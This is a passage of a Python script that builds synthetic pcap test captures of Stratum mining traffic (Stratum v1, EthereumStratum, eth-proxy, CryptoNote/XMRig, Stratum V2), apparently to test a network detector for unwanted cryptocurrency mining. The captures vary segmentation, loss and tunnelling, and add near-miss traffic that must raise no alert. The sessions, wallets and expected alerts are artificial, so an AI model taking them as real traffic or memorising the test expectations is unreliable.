                              "0x00000000" + phex(tag + "/tgt", 24)]}, v, r)

    def login_msg():
        m = {"id": 1, "jsonrpc": "2.0", "method": "eth_submitLogin", "params": [login, "x"]}
        if worker:
            m["worker"] = worker
        return jl(m, v, r)
    sends = [
        ("c", 0.0, [login_msg()]),
        ("s", 0.03, [jl({"id": 1, "jsonrpc": "2.0", "result": True}, v, r)]),
        ("c", 0.0005, [jl({"id": 2, "jsonrpc": "2.0", "method": "eth_getWork", "params": []}, v, r)]),
        ("s", 0.03, [work(2, 0)]),
        ("c", 0.2, [jl({"id": 3, "jsonrpc": "2.0", "method": "eth_submitHashrate",
                        "params": ["0x" + phex(tag + "/hr", 8).lstrip("0"), "0x" + phex(tag + "/cid", 64)]},
                       v, r)]),
        ("s", 0.03, [jl({"id": 3, "jsonrpc": "2.0", "result": True}, v, r)]),
        ("s", 0.5, [work(0, 1)]),  # work pushed by the pool (id 0)
    ]
    for k in range(n_submits):
        sends.append(("c", 0.35 if k == 0 else 0.05,
                      [jl({"id": 4 + k, "jsonrpc": "2.0", "method": "eth_submitWork",
                           "params": ["0x" + phex(tag + "/nonce%d" % k, 16), "0x" + phex(tag + "/hdr1", 64),
                                      "0x" + phex(tag + "/mix%d" % k, 64)]}, v, r)]))
        sends.append(("s", 0.03, [jl({"id": 4 + k, "jsonrpc": "2.0", "result": k % 3 != 2}, v, r)]))
    return sends


# ---- CryptoNote (XMRig and a pool like xmrig-proxy / supportxmr)
def cn_blob(tag):
    return "1010" + phex(tag + "/blob", 148)


def cn_script(v, login, tag, rigid="", algo=("rx/0", "cn/r"), reject=False, jobs=2,
              keepalive=True, ext_algo=True):
    r = v
    sess = phex(tag + "/sess", 8)
    params = {"login": login, "pass": "x", "agent": XMRIG_AGENT, "rigid": rigid}
    if algo is not None:
        params["algo"] = list(algo)
    job = {"blob": cn_blob(tag + "/0"), "job_id": phex(tag + "/j0", 12), "target": "b88d0600",
           "algo": "rx/0", "height": 3012345, "seed_hash": phex(tag + "/seed", 64)}
    result = {"id": sess, "job": job, "status": "OK"}
    if ext_algo:
        result["extensions"] = ["algo", "nicehash", "connect", "tls", "keepalive"]
    sends = [
        ("c", 0.0, [jl({"id": 1, "jsonrpc": "2.0", "method": "login", "params": params}, v, r)]),
        ("s", 0.05, [jl({"id": 1, "jsonrpc": "2.0", "error": None, "result": result}, v, r)]),
    ]
    for k in range(1, jobs + 1):
        jid = phex(tag + "/j%d" % k, 12)
        sends.append(("s", 0.5, [jl({"jsonrpc": "2.0", "method": "job",
                                     "params": {"blob": cn_blob(tag + "/%d" % k), "job_id": jid,
                                                "target": "%08x" % (0xb88d0600 - k), "algo": "rx/0",
                                                "height": 3012345 + k,
                                                "seed_hash": phex(tag + "/seed", 64)}}, v, r)]))
        sends.append(("c", 0.3, [jl({"id": 1 + k, "jsonrpc": "2.0", "method": "submit",
                                     "params": {"id": sess, "job_id": jid,
                                                "nonce": phex(tag + "/n%d" % k, 8),
                                                "result": phex(tag + "/r%d" % k, 64)}}, v, r)]))
        bad = reject and k == jobs
        sends.append(("s", 0.03, [jl({"id": 1 + k, "jsonrpc": "2.0",
                                      "error": {"code": -1, "message": "Low difficulty share"}}, v, r)
                                  if bad else
                                  jl({"id": 1 + k, "jsonrpc": "2.0", "error": None,
                                      "result": {"status": "OK"}}, v, r)]))
    if keepalive:
        kid = jobs + 2
        sends.append(("c", 0.2, [jl({"id": kid, "jsonrpc": "2.0", "method": "keepalived",
                                     "params": {"id": sess}}, v, r)]))
        sends.append(("s", 0.03, [jl({"id": kid, "jsonrpc": "2.0", "error": None,
                                      "result": {"status": "KEEPALIVED"}}, v, r)]))
    return sends


SEG_DT = 0.0001  # between the segments of one send
MSS = 1448


def seg_plain(i, fc, payload):
    return [("seg", o, min(MSS, len(payload) - o)) for o in range(0, len(payload), MSS)]


def play(sess_rows, c, t, sends, shape=seg_plain, visible=None, rtt=0.02, handshake=True,
         close=True):
    """Plays a TCP session: handshake, the sends (side, delay, lines), FIN
    both ways. shape(i, from_client, payload) -> ops in emission order:
    ("seg", off, n) sends payload[off:off+n] at its sequence number (a range
    sent before is a retransmission), ("lose", off, n) builds it but the
    capture never sees it. visible(from_client, send index; -1 handshake,
    len(sends) close) -> the capture sees that side's packets then. The peer
    acknowledges each send unless it answers within 10 ms. Appends (t,
    from_client, l3) to sess_rows; returns the time after."""
    t0 = t
    seen = visible or (lambda fc, i: True)

    def put(fc, l3, i):
        if seen(fc, i):
            sess_rows.append((t, fc, l3))
    if handshake:
        put(True, c.syn(), -1)
        t += rtt
        put(False, c.synack(), -1)
        t += 0.0001
        put(True, c.ack(True), -1)
    for i, (side, dt, lines) in enumerate(sends):
        fc = side == "c"
        t = max(t + 0.0001, t0 + dt[1]) if isinstance(dt, tuple) else t + dt
        payload = b"".join(lines)
        base = c.seq[fc]
        covered = bytearray(len(payload))
        for op, off, n in shape(i, fc, payload):
            assert n > 0 and off + n <= len(payload)
            c.seq[fc] = (base + off) & 0xFFFFFFFF
            l3 = c.data(fc, payload[off:off + n])
            covered[off:off + n] = b"\x01" * n
            if op == "seg":
                put(fc, l3, i)
                t += SEG_DT
            else:
                assert op == "lose"
        assert all(covered), "a send's bytes must all be built"
        c.seq[fc] = (base + len(payload)) & 0xFFFFFFFF
        nxt = sends[i + 1] if i + 1 < len(sends) else None
        if nxt is None or (nxt[0] == "c") == fc or isinstance(nxt[1], tuple) or nxt[1] > 0.01:
            t += 0.0002
            put(not fc, c.ack(not fc), i)
    if close:
        n = len(sends)
        t += 0.05
        put(True, c.fin(True), n)
        t += rtt
        put(False, c.fin(False), n)
        t += 0.0001
        put(True, c.ack(True), n)
    return t


def add_sessions(cap, sessions):
    """sessions: [(rows, link)]; adds every packet in time order (a stable
    sort: packets of one session keep their order)."""
    allrows = []
    for k, (rows, link) in enumerate(sessions):
        allrows += [(t, k, n, fc, l3, link) for n, (t, fc, l3) in enumerate(rows)]
    allrows.sort(key=lambda x: (x[0], x[1], x[2]))
    for t, _, _, fc, l3, link in allrows:
        cap.add(t, link(l3, fc))


def stratum_addrs(net, si, v6=False):
    """Client and pool addresses of session si of a capture (net: the
    capture's number). IPv4 address sums differ between sessions: nDPI's
    mining cache is keyed by the sum of the two addresses."""
    if v6:
        return "2001:db8:%x::%x" % (0x100 + net, 0x10 + si), "2001:db8:%x:1::%x" % (0x100 + net, 0x80 + si)
    return "10.244.%d.%d" % (net, 10 + si), "203.0.113.%d" % (20 + si + 4 * net % 100)


DIALECT_PORTS = {"stratum_v1": 3333, "ethereum_stratum": 4444, "eth_proxy": 8008, "cryptonote": 3333}


def dialect_sends(dialect, v, tag, **kw):
    """A typical session of each dialect, style v (wallets and agents vary with v)."""
    if dialect == "stratum_v1":
        login = [btc_bech32(tag) + ".rig%02d" % v, btc_legacy(tag) + ".worker%d" % v,
                 btc_legacy(tag, "3"), btc_bech32(tag)][v % 4]
        agent = ["cgminer/4.12.0", "bfgminer/5.5.0", "cgminer/4.12.0", "bfgminer/5.5.0"][v % 4]
        return v1_script(v, login, agent, [16384, 65536, 1024, 8192][v % 4], tag,
                         reject=v % 2 == 1, **kw)
    if dialect == "ethereum_stratum":
        login = [eth_wallet(tag, True) + ".worker%d" % v, eth_wallet(tag), eth_wallet(tag) + ".rig",
                 eth_wallet(tag, True)][v % 4]
        agent = ["NiceHash/1.0.0", "ethminer-0.19.0", "NiceHash/1.0.0", "ethminer-0.19.0"][v % 4]
        diff = [0.5, 4.0, 2, 0.25][v % 4]
        return es_script(v, login, agent, diff, tag, extranonce_sub=v % 2 == 0, **kw)
    if dialect == "eth_proxy":
        w = eth_wallet(tag, v % 2 == 1)
        login, worker = [(w + ".rig%d" % v, None), (w, "rig%d" % v), (w + ".eth1", "eth1.0"),
                         (w, None)][v % 4]
        return ep_script(v, login, worker, tag, **kw)
    login = [XMR_DEMO, xmr_wallet(tag) + ".rig%d" % v, xmr_wallet(tag),
             xmr_wallet(tag) + "+50000"][v % 4]
    return cn_script(v, login, tag, rigid=["", "rig-%d" % v, "k8s-node-%d" % v, ""][v % 4],
                     algo=[("rx/0", "cn/r"), ("rx/0",), None, ("rx/0", "rx/wow", "cn/r")][v % 4],
                     reject=v % 2 == 1, **kw)


DIALECT_ORDER = ("stratum_v1", "ethereum_stratum", "eth_proxy", "cryptonote")


def cap_stratum_dialects():
    cap = Cap("stratum_dialects.pcap", LT_ETH, "Stratum dialects, complete sessions (SYN to FIN "
              "both ways, key order, spacing and line ends varying as between miners): Stratum "
              "v1 (cgminer/bfgminer: subscribe, authorize wallet.worker, set_difficulty, notify, "
              "submit, accepted/rejected), EthereumStratum/1.0.0 (NiceHash: subscribe with the "
              "EthereumStratum/1.0.0 parameter, 4-item notify), eth-proxy (ethminer: "
              "eth_submitLogin 0x wallet, eth_getWork, 3-item work results and pushes, "
              "eth_submitHashrate, eth_submitWork), CryptoNote (XMRig: login with "
              "login/pass/agent/rigid/algo, login result with job, job notifications, submit, "
              "keepalived), each on its usual port (3333, 4444, 8008, 3333) and on 443, 80 and "
              "8080; 16 sessions, two of them over IPv6")
    sessions = []
    si = 0
    for d in DIALECT_ORDER:
        for k, port in enumerate((DIALECT_PORTS[d], 443, 80, 8080)):
            v6 = si in (5, 14)
            cli, srv = stratum_addrs(1, si, v6)
            c = Tcp(cli, 40000 + 17 * si, srv, port, 0x1000000 * (si + 1), 0x7000000 + 0x100000 * si,
                    cipid=1000 * si, sipid=1000 * si + 500)
            rows = []
            play(rows, c, 0.2 * si, dialect_sends(d, k + si // 4, "dialects/%d" % si))
            sessions.append((rows, eth_link()))
            si += 1
    add_sessions(cap, sessions)
    return cap


def chunked(n, size, start=0):
    return [(o, min(size, n - o)) for o in range(start, n, size)]


def seg_onebyte():
    done = set()

    def shape(i, fc, payload):
        if fc or fc not in done:  # every client send, the server's first one
            done.add(fc)
            return [("seg", k, 1) for k in range(len(payload))]
        return seg_plain(i, fc, payload)
    return shape


def seg_pairs(size=24):
    """Adjacent segments swapped; the first segment of each direction stays
    first (davy starts a direction at its first payload segment)."""
    firsts = set()

    def shape(i, fc, payload):
        ch = chunked(len(payload), size)
        lead = [] if fc in firsts else [ch.pop(0)]
        firsts.add(fc)
        order = []
        for k in range(0, len(ch) - 1, 2):
            order += [ch[k + 1], ch[k]]
        if len(ch) % 2:
            order.append(ch[-1])
        return [("seg", o, n) for o, n in lead + order]
    return shape


SHUFFLE = (3, 1, 0, 2, 7, 5, 4, 6)  # within windows of 8 segments: at most 7 pieces held


def seg_shuffle(size=16):
    firsts = set()

    def shape(i, fc, payload):
        ch = chunked(len(payload), size)
        lead = [] if fc in firsts else [ch.pop(0)]
        firsts.add(fc)
        order = []
        for w in range(0, len(ch), len(SHUFFLE)):
            win = ch[w:w + len(SHUFFLE)]
            order += [win[p] for p in SHUFFLE if p < len(win)]
        return [("seg", o, n) for o, n in lead + order]
    return shape


def seg_retrans(size=40):
    """Retransmissions: an exact copy of a delivered segment, a copy that
    overlaps delivered bytes and brings new ones, a segment buffered out of
    order then covered again by a larger one (all copies carry the same
    bytes)."""
    def shape(i, fc, payload):
        ch = chunked(len(payload), size)
        if len(ch) < 7:
            return [("seg", o, n) for o, n in ch] + [("seg", ch[-1][0], ch[-1][1])]
        (o0, n0), (o1, n1), (o2, n2), (o3, n3), (o4, n4), (o5, n5) = ch[:6]
        ops = [("seg", o0, n0), ("seg", o1, n1), ("seg", o1, n1),       # exact copy
               ("seg", o2, n2), ("seg", o2 + 8, o3 + n3 - o2 - 8),     # overlaps, brings seg 3
               ("seg", o3, n3),                                       # old by now
               ("seg", o5, n5), ("seg", o4, o5 + n5 - o4)]             # buffered, then covered
        return ops + [("seg", o, n) for o, n in ch[6:]]
    return shape


def cap_stratum_segments():
    cap = Cap("stratum_segments.pcap", LT_ETH, "Stratum streams cut up, each dialect four "
              "times: (a) every client send and the pool's first answer in 1-byte segments; "
              "(b) 24-byte segments with adjacent pairs swapped; (c) 16-byte segments shuffled "
              "within windows of 8 (at most 7 pieces held out of order per direction); (d) "
              "40-byte segments with an exact retransmission, an overlapping retransmission "
              "that brings new bytes, and a segment buffered out of order then covered again "
              "by a larger one (same bytes). The first segment of each direction is always "
              "in order; acknowledgements never run ahead of the bytes shown")
    shapes = (("1-byte", seg_onebyte), ("pairs", seg_pairs), ("shuffle", seg_shuffle),
              ("retrans", seg_retrans))
    sessions = []
    si = 0
    for d in DIALECT_ORDER:
        for k, (_, mk) in enumerate(shapes):
            cli, srv = stratum_addrs(2, si)
            c = Tcp(cli, 41000 + 13 * si, srv, DIALECT_PORTS[d], 0x2000000 * (si + 1),
                    0x9000000 + 0x100000 * si, cipid=2000 + 700 * si, sipid=2300 + 700 * si)
            rows = []
            play(rows, c, 0.3 * si, dialect_sends(d, k, "segments/%d" % si), shape=mk())
            sessions.append((rows, eth_link()))
            si += 1
    add_sessions(cap, sessions)
    return cap


def lose_head(index, keep_from):
    """Send `index` loses its first keep_from bytes (the capture starts, or a
    segment goes missing, mid-line)."""
    def shape(i, fc, payload):
        if i == index:
            return [("lose", 0, keep_from), ("seg", keep_from, len(payload) - keep_from)]
        return seg_plain(i, fc, payload)
    return shape


def first_send(sends, side, pred=lambda lines: True, after=0):
    return next(i for i, (s, _, lines) in enumerate(sends) if s == side and i >= after and pred(lines))


def cap_stratum_loss():
    cap = Cap("stratum_loss.pcap", LT_ETH, "Stratum with bytes missing from the capture: (1) "
              "XMRig session whose capture starts mid-connection, mid-line (no handshake; "
              "the first packet is the tail of a submit), then the pool's answer, a job "
              "(the pool speaks first: 4960002) and the miner's next submit (4960001); (2) "
              "Stratum v1 session whose first submit lost its first segment, acknowledged "
              "by the pool (gap declared at that ACK: one submit fewer, the pool's answer "
              "to it unmatched); (3) eth-proxy seen from the miner's side only, the head "
              "of a submit lost: about 4 KB after the hole fit in 3 pieces, the gap is "
              "declared when the flow ends; (3b) XMRig seen from the miner's side only, "
              "200 submits, the head of the third lost: the segment after 16 full pieces "
              "(32 KB) declares the gap; (4) Stratum v1 seen from the miner's side only; (5) "
              "CryptoNote and eth-proxy seen from the pool's side only (SYN-ACK on); (6) "
              "Stratum v1 from the pool's side only, capture starting at a mining.notify "
              "(no handshake: the pool is the flow's source); (7) eth-proxy whose last miner "
              "message, an eth_submitWork, lacks its newline before FIN: read when the flow "
              "ends, a submit the pool never answered")
    sessions = []
    link = eth_link()
    # (1) mid-connection, mid-line
    cli, srv = stratum_addrs(3, 0)
    c = Tcp(cli, 42001, srv, 3333, 0x3100000, 0x3900000, cipid=3000, sipid=3500)
    sends = dialect_sends("cryptonote", 1, "loss/0", jobs=4)
    k = first_send(sends, "c", lambda ls: b'"submit"' in ls[0], after=4)
    rows = []
    play(rows, c, 0.0, sends, shape=lose_head(k, 60), handshake=False,
         visible=lambda fc, i: i >= k)
    sessions.append((rows, link))
    # (2) a lost client segment the pool acknowledges
    cli, srv = stratum_addrs(3, 1)
    c = Tcp(cli, 42002, srv, 3333, 0x3200000, 0x3A00000, cipid=3100, sipid=3600)
    sends = dialect_sends("stratum_v1", 0, "loss/1")
    k = first_send(sends, "c", lambda ls: b"mining.submit" in ls[0])
    rows = []
    play(rows, c, 0.3, sends, shape=lose_head(k, 50))
    sessions.append((rows, link))
    # (3) miner's side only, one segment lost, 17 more after it
    cli, srv = stratum_addrs(3, 2)
    c = Tcp(cli, 42003, srv, 8008, 0x3300000, 0x3B00000, cipid=3200, sipid=3700)
    sends = dialect_sends("eth_proxy", 2, "loss/2", n_submits=22)
    k = first_send(sends, "c", lambda ls: b"eth_submitWork" in ls[0])
    rows = []
    play(rows, c, 0.6, sends, shape=lose_head(k, 70), visible=lambda fc, i: fc)
    sessions.append((rows, link))
    # (3b) miner's side only, a busy miner: more than 16 pieces of 2048 bytes
    # follow the hole, so the segment that needs a 17th piece declares the gap
    cli, srv = stratum_addrs(3, 7)
    c = Tcp(cli, 42008, srv, 3333, 0x3700000, 0x3F00000, cipid=3700, sipid=4200)
    tag = "loss/7"
    sends = dialect_sends("cryptonote", 2, tag, jobs=0, keepalive=False)
    for k in range(200):
        sends.append(("c", 0.1, [jl({"id": 2 + k, "jsonrpc": "2.0", "method": "submit",
                                     "params": {"id": phex(tag + "/sess", 8),
                                                "job_id": phex(tag + "/j%d" % (k // 10), 12),
                                                "nonce": phex(tag + "/n%d" % k, 8),
                                                "result": phex(tag + "/r%d" % k, 64)}})]))
    k = first_send(sends, "c", lambda ls: b'"submit"' in ls[0], after=4)
    rows = []
    play(rows, c, 3.0, sends, shape=lose_head(k, 80), visible=lambda fc, i: fc)
    sessions.append((rows, link))
    # (7) the miner's last message has no newline, then both sides close: it
    # is read when the flow ends (the pool never answered it)
    cli, srv = stratum_addrs(3, 8)
    c = Tcp(cli, 42009, srv, 8008, 0x3800000, 0x3F80000, cipid=3800, sipid=4300)
    sends = dialect_sends("eth_proxy", 3, "loss/8", n_submits=2)[:-1]
    side, dt, lines = sends[-1]
    assert side == "c" and lines[-1].endswith(b"\n")
    sends[-1] = (side, dt, lines[:-1] + [lines[-1].rstrip(b"\r\n")])
    rows = []
    play(rows, c, 3.5, sends)
    sessions.append((rows, link))
    # (4) miner's side only
    cli, srv = stratum_addrs(3, 3)
    c = Tcp(cli, 42004, srv, 3333, 0x3400000, 0x3C00000, cipid=3300, sipid=3800)
    rows = []
    play(rows, c, 0.9, dialect_sends("stratum_v1", 1, "loss/3"), visible=lambda fc, i: fc)
    sessions.append((rows, link))
    # (5) pool's side only, handshake seen from the pool (SYN-ACK)
    for si, d, port in ((4, "cryptonote", 3333), (5, "eth_proxy", 8008)):
        cli, srv = stratum_addrs(3, si)
        c = Tcp(cli, 42000 + si + 1, srv, port, 0x3000000 + si * 0x100000, 0x3D00000 + si,
                cipid=3000 + 100 * si, sipid=3900 + 10 * si)
        rows = []
        play(rows, c, 0.3 * si, dialect_sends(d, si, "loss/%d" % si), visible=lambda fc, i: not fc)
        sessions.append((rows, link))
    # (6) pool's side only, from a mining.notify on
    cli, srv = stratum_addrs(3, 6)
    c = Tcp(cli, 42007, srv, 3333, 0x3600000, 0x3E00000, cipid=3600, sipid=4100)
    sends = dialect_sends("stratum_v1", 2, "loss/6", extra_jobs=2)
    k = first_send(sends, "s", lambda ls: len(ls) == 1 and b'"mining.notify"' in ls[0], after=3)
    rows = []
    play(rows, c, 1.8, sends, handshake=False, visible=lambda fc, i: not fc and i >= k)
    sessions.append((rows, link))
    add_sessions(cap, sessions)
    return cap


def tunnel_stratum_cap(name, desc, mk_link, net):
    cap = Cap(name, LT_ETH, desc)
    sessions = []
    for si, d in enumerate(DIALECT_ORDER):
        cli, srv = "10.244.%d.%d" % (net, 10 + si), "10.244.%d.%d" % (net + 1, 50 + si)
        c = Tcp(cli, 43000 + si, srv, DIALECT_PORTS[d], 0x4000000 + si * 0x10000,
                0x4800000 + si * 0x10000, cipid=4000 + 100 * si, sipid=4500 + 100 * si)
        rows = []
        play(rows, c, 0.4 * si, dialect_sends(d, si, "%s/%d" % (name, si)), rtt=0.0005)
        sessions.append((rows, mk_link(si)))
    add_sessions(cap, sessions)
    return cap


def cap_stratum_vxlan():
    return tunnel_stratum_cap(
        "stratum_vxlan.pcap", "Stratum inside VXLAN (UDP 4789, VNI 4096): one session of each "
        "dialect (v1, EthereumStratum, eth-proxy, CryptoNote) between pods of nodes 192.0.2.31 "
        "and 192.0.2.32, SYN to FIN; the alerts and stratum objects are those of the inner flows",
        lambda si: vxlan_link("192.0.2.31", "192.0.2.32", 4096), 60)


def cap_stratum_geneve():
    return tunnel_stratum_cap(
        "stratum_geneve.pcap", "Stratum inside Geneve (UDP 6081, VNI 7001, inner Ethernet; the "
        "eth-proxy session with protocol 0x0800, inner IPv4 directly): one session of each "
        "dialect between pods of nodes 192.0.2.41 and 192.0.2.42, SYN to FIN",
        lambda si: geneve_link("192.0.2.41", "192.0.2.42", 7001, ETH_IPV4 if si == 2 else ETH_TEB), 62)


def cap_stratum_quiet():
    cap = Cap("stratum_quiet.pcap", LT_ETH, "traffic that looks like Stratum to a careless "
              "eye and must raise no alert and carry no stratum object: a JSON-RPC service "
              "whose login method takes username/password, then a 'submit' without "
              "job_id/nonce/result; {\"login\":\"bob\",\"pass\":\"x\"} (score 1) and a login with "
              "pass and agent but no wallet (score 2) whose answers carry no job; Bitcoin-style "
              "JSON-RPC getblock/getblockcount over newline-delimited TCP; newline-delimited "
              "JSON logs with a \"method\" member (one direction); HTTP on 8080")
    sessions = []
    link = eth_link()

    def line(o, v=0):
        return jl(o, v)
    # 1. a JSON-RPC login service
    s1 = [("c", 0.0, [line({"id": 1, "jsonrpc": "2.0", "method": "login",
                             "params": {"username": "bob", "password": "x"}})]),
          ("s", 0.02, [line({"id": 1, "jsonrpc": "2.0",
                             "result": {"token": phex("quiet/tok", 32), "expires_in": 3600}})]),
          ("c", 0.3, [line({"id": 2, "jsonrpc": "2.0", "method": "submit",
                            "params": {"form": "contact", "email": "bob@example.org"}})]),
          ("s", 0.02, [line({"id": 2, "jsonrpc": "2.0", "result": {"status": "OK"}})]),
          ("c", 0.3, [line({"id": 3, "jsonrpc": "2.0", "method": "logout", "params": {}})]),
          ("s", 0.02, [line({"id": 3, "jsonrpc": "2.0", "result": True})])]
    # 2. login/pass only: tentative, answered without a job
    s2 = [("c", 0.0, [line({"id": 1, "jsonrpc": "2.0", "method": "login",
                             "params": {"login": "bob", "pass": "x"}}, 1)]),
          ("s", 0.02, [line({"id": 1, "jsonrpc": "2.0", "error": None,
                             "result": {"id": "5f1c", "status": "OK"}}, 1)]),
          ("c", 0.2, [line({"id": 2, "jsonrpc": "2.0", "method": "getjob", "params": {"id": "5f1c"}}, 1)]),
          ("s", 0.02, [line({"id": 2, "jsonrpc": "2.0", "error": None, "result": {"status": "OK"}}, 1)])]
    # 3. login, pass and agent, no wallet: score 2, answered without a job
    s3 = [("c", 0.0, [line({"method": "login", "params": {"login": "alice@example.org",
                                                          "pass": "hunter2", "agent": "Mozilla/5.0"},
                            "id": 1})]),
          ("s", 0.02, [line({"id": 1, "result": {"session": phex("quiet/s3", 16), "motd": "welcome"},
                             "error": None})])]
    # 4. Bitcoin-style JSON-RPC, one request per line
    genesis = "000000000019d6689c085ae165831e934ff763ae46a2a6c172b3f1b60a8ce26f"
    s4 = [("c", 0.0, [line({"jsonrpc": "2.0", "id": 1, "method": "getblockcount", "params": []})]),
          ("s", 0.01, [line({"result": 823456, "error": None, "id": 1})]),
          ("c", 0.05, [line({"jsonrpc": "2.0", "id": 2, "method": "getblock", "params": [genesis, 1]})]),
          ("s", 0.01, [line({"result": {"hash": genesis, "confirmations": 823457, "height": 0,
                                        "version": 1, "merkleroot": phex("quiet/mr", 64),
                                        "time": 1231006505, "nonce": 2083236893, "bits": "1d00ffff",
                                        "nTx": 1}, "error": None, "id": 2})]),
          ("c", 0.05, [line({"jsonrpc": "2.0", "id": 3, "method": "getbestblockhash", "params": []})]),
          ("s", 0.01, [line({"result": phex("quiet/best", 64), "error": None, "id": 3})])]
    # 5. JSON logs shipped to a collector (fluent-bit tcp input), one way
    s5 = [("c", 0.1 * k, [line({"time": "2024-01-01T00:00:%02d.%03dZ" % (4 + k, 17 * k), "level": "info",
                                "method": "GET", "path": "/healthz", "status": 200,
                                "duration_ms": 3 + k})]) for k in range(6)]
    for si, (sends, port) in enumerate(((s1, 4000), (s2, 7000), (s3, 7001), (s4, 8332), (s5, 5170))):
        cli, srv = stratum_addrs(4, si)
        c = Tcp(cli, 44000 + si, srv, port, 0x5000000 + si * 0x10000, 0x5800000 + si * 0x10000,
                cipid=5000 + 100 * si, sipid=5500 + 100 * si)
        rows = []
        play(rows, c, 0.5 * si, sends)
        sessions.append((rows, link))
    cli, srv = stratum_addrs(4, 5)
    sessions.append((http_rows(cli, 44005, srv, 8080, 0x5050000, 0x5850000), link))
    sessions[-1] = ([(t + 3.0, fc, l3) for t, fc, l3 in sessions[-1][0]], link)
    add_sessions(cap, sessions)
    return cap


def v2_bytes(label, n, kind="random"):
    if kind == "zeros":
        return bytes(n)
    if kind == "a":
        return b"a" * n
    b = prng(label, n)
    if b[0] in b" \t\r\n{":  # never a Stratum candidate: no '{' first
        b = bytes([b[0] ^ 0x80]) + b[1:]
    return b


def cap_stratum_v2():
    cap = Cap("stratum_v2.pcap", LT_ETH, "Stratum V2 heuristic (sid 4960004): a flow with "
              "SYN whose first client payload is 64 random-looking bytes (Noise NX ephemeral "
              "key), answered by exactly 170 bytes, then two client records (>= 38 bytes) "
              "and a server record (>= 38): one alert, at the server record; near misses, "
              "no alert: a 63-byte first payload, 64 zero bytes, 64 bytes of 'a', a "
              "171-byte answer, the same exchange as the first flow without its handshake "
              "(capture started after the SYN)")
    sessions = []
    link = eth_link()
    cases = [((64, "random"), 170, True), ((63, "random"), 170, True), ((64, "zeros"), 170, True),
             ((64, "a"), 170, True), ((64, "random"), 171, True), ((64, "random"), 170, False)]
    for si, ((n, kind), answer, hs) in enumerate(cases):
        tag = "v2/%d" % si
        sends = [("c", 0.0, [v2_bytes(tag + "/hello", n, kind)]),
                 ("s", 0.02, [v2_bytes(tag + "/answer", answer)]),
                 ("c", 0.01, [v2_bytes(tag + "/rec1", 96)]),
                 ("c", 0.001, [v2_bytes(tag + "/rec2", 58)]),
                 ("s", 0.02, [v2_bytes(tag + "/rec3", 214)]),
                 ("c", 0.5, [v2_bytes(tag + "/rec4", 74)]),
                 ("s", 0.02, [v2_bytes(tag + "/rec5", 122)])]
        cli, srv = stratum_addrs(5, si)
        c = Tcp(cli, 45000 + si, srv, 34255, 0x6000000 + si * 0x10000, 0x6800000 + si * 0x10000,
                cipid=6000 + 100 * si, sipid=6500 + 100 * si)
        rows = []
        play(rows, c, 0.4 * si, sends, handshake=hs)
        sessions.append((rows, link))
    add_sessions(cap, sessions)
    return cap


def cap_stratum_long():
    cap = Cap("stratum_long.pcap", LT_ETH, "one XMRig session of about 1000 s of packet time: "
              "login, a keepalived every 60 s, a new job every 120 s, a submit every 180 s, FIN "
              "at the end; the flow lasts more than three --flow-update-interval periods (300 s "
              "by default): periodic flow records (reason update) are due at the first packets "
              "after 300 s, 600 s and 900 s")
    cli, srv = stratum_addrs(6, 0)
    c = Tcp(cli, 46000, srv, 3333, 0x7000000, 0x7800000, cipid=7000, sipid=7500)
    tag = "long"
    sess = phex(tag + "/sess", 8)
    sends = dialect_sends("cryptonote", 0, tag, jobs=0, keepalive=False)
    ev = []
    for k in range(1, 17):
        ev.append((60.0 * k + 0.2 + 0.003 * k, "keep", k))
    for k in range(1, 9):
        ev.append((120.0 * k + 0.5 + 0.007 * k, "job", k))
    for k in range(1, 6):
        ev.append((180.0 * k + 7.1 + 0.011 * k, "submit", k))
    ev.sort()
    rid = 10
    for at, what, k in ev:
        if what == "keep":
            rid += 1
            sends.append(("c", ("at", at), [jl({"id": rid, "jsonrpc": "2.0", "method": "keepalived",
                                                "params": {"id": sess}})]))
            sends.append(("s", 0.03, [jl({"id": rid, "jsonrpc": "2.0", "error": None,
                                          "result": {"status": "KEEPALIVED"}})]))
        elif what == "job":
            sends.append(("s", ("at", at), [jl({"jsonrpc": "2.0", "method": "job", "params": {
                "blob": cn_blob(tag + "/%d" % k), "job_id": phex(tag + "/j%d" % k, 12),
                "target": "%08x" % (0xb88d0600 + k), "algo": "rx/0", "height": 3012400 + k,
                "seed_hash": phex(tag + "/seed", 64)}})]))
        else:
            rid += 1
            sends.append(("c", ("at", at), [jl({"id": rid, "jsonrpc": "2.0", "method": "submit",
                                                "params": {"id": sess,
                                                           "job_id": phex(tag + "/j%d" % ((k * 3) // 2), 12),
                                                           "nonce": phex(tag + "/n%d" % k, 8),
                                                           "result": phex(tag + "/r%d" % k, 64)}})]))
            sends.append(("s", 0.03, [jl({"id": rid, "jsonrpc": "2.0", "error": None,
                                          "result": {"status": "OK"}})]))
    sends.append(("c", ("at", 1000.3), [jl({"id": rid + 1, "jsonrpc": "2.0", "method": "keepalived",
                                            "params": {"id": sess}})]))
    sends.append(("s", 0.03, [jl({"id": rid + 1, "jsonrpc": "2.0", "error": None,
                                  "result": {"status": "KEEPALIVED"}})]))
    rows = []
    play(rows, c, 0.0, sends)
    add_sessions(cap, [(rows, eth_link())])
    return cap


# --------------------------------------------------------------------------
# DNS linkage (rules in RULES["dns_linkage"])

DNS_TYPES = {"A": DNS_TYPE_A, "CNAME": DNS_TYPE_CNAME, "AAAA": DNS_TYPE_AAAA}


def dns_wire(qid, flags, questions, answers):
    """A DNS message built byte by byte, names compressed as a server does
    (a suffix written before is replaced by a pointer to it; suffixes are
    compared as written, so differently cased names are spelled out).
    questions: [(name, type)]; answers: [(owner, type, ttl, rdata)] with
    rdata an address (A, AAAA), a name (CNAME), or raw bytes with a numeric
    type (class IN) for a malformed record."""
    buf = bytearray(struct.pack("!HHHHHH", qid, flags, len(questions), len(answers), 0, 0))
    known = {}

    def name(n):
        labels = n.split(".") if n else []
        for i in range(len(labels)):
            suf = tuple(labels[i:])
            if suf in known:
                buf.extend(struct.pack("!H", 0xC000 | known[suf]))
                return
            known[suf] = len(buf)
            buf.append(len(labels[i]))
            buf.extend(labels[i].encode())
        buf.append(0)

    for n, t in questions:
        name(n)
        buf.extend(struct.pack("!HH", DNS_TYPES[t], DNS_CLASS_IN))
    for owner, t, ttl, rdata in answers:
        name(owner)
        typ = DNS_TYPES.get(t, t)
        buf.extend(struct.pack("!HHI", typ, DNS_CLASS_IN, ttl))
        at = len(buf)
        buf.extend(b"\x00\x00")
        if isinstance(rdata, bytes):
            buf.extend(rdata)
        elif t == "CNAME":
            name(rdata)
        else:
            buf.extend(ipaddress.ip_address(rdata).packed)
        struct.pack_into("!H", buf, at, len(buf) - at - 2)
    return bytes(buf)


